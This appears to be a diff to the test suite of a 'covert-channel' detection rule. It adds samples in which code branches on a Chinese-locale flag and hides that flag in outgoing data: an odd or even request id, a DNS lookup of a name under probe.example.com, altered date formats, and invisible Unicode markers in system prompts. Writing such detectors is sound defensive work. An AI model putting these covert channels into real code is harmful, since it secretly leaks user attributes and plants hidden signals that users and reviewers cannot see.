@@ -51,6 +51,8 @@ ruleTester('covert-channel', {
     // Two versions of an appended text that a reader sees (a sentence), and an id that may be odd either way.
     `${zone}\nconst render = (s) => (cn ? s + " Answer in Chinese." : s + " Answer in English.");`,
     `${zone}\nconst n = Math.floor(Math.random() * 1e6);\nsend({ headers: { "x-request-id": String(cn ? n + 1 : n) } });`,
+    // Two objects whose methods make clearly different text (a greeting in the user's language).
+    `${zone}\nconst s = cn ? { greet: (n) => "你好，" + n } : { greet: (n) => "Hello, " + n };\nsend({ system: s.greet("Ada") });`,
     // A fold table of look-alikes back to ASCII.
     `const FOLD = { "\\u2019": "'", "\\u02bc": "'" }; const f = (c) => FOLD[c];`,
   ],
@@ -76,6 +78,15 @@ ruleTester('covert-channel', {
       ['an even id made odd', `const n = Math.floor(Math.random() * 1e6) * 2;\nsend({ headers: { "x-request-id": String(cn ? n + 1 : n) } });`, /lowest bit of n/],
       ['a DNS name built from the flag', `require("dns").lookup(\`\${cn ? "a" : "b"}.probe.example.com\`, () => {});`, /encoded in a name looked up in DNS/],
     ] as const).map(([name, body, message]) => ({ code: `// ${name}\n${zone}\n${body}`, findings: [{ severity: 'critical' as const, line: body.startsWith('function') ? 3 : 2 + body.split('\n').length, message }] })),
+    // Two objects whose methods make two versions (strategy objects), named or written in the choice.
+    {
+      code: `${zone}\nconst plain = { date: (d) => d };\nconst marked = { date: (d) => d.replace(/-/g, "/") };\nconst s = cn ? marked : plain;\nsend({ system: "Today is " + s.date(new Date().toISOString().slice(0, 10)) });`,
+      findings: [{ severity: 'critical', line: 4, message: /"-" written as "\/" \(its method date\)/ }],
+    },
+    {
+      code: `${zone}\nconst s = cn ? { sys: (t) => t + "\\u200b" } : { sys: (t) => t };\nsend({ system: s.sys("You are helpful.") });`,
+      findings: [{ severity: 'critical', line: 2, message: /marker "\\u\{200B\}" added/ }],
+    },
     // An invisible marker put into English text when the locale is Chinese: no typography of Chinese.
     {
       code: `const zh = Intl.DateTimeFormat().resolvedOptions().locale === "zh-CN";\nconst p = zh ? "You are a helpful assistant.\\u00A0" : "You are a helpful assistant.";`,
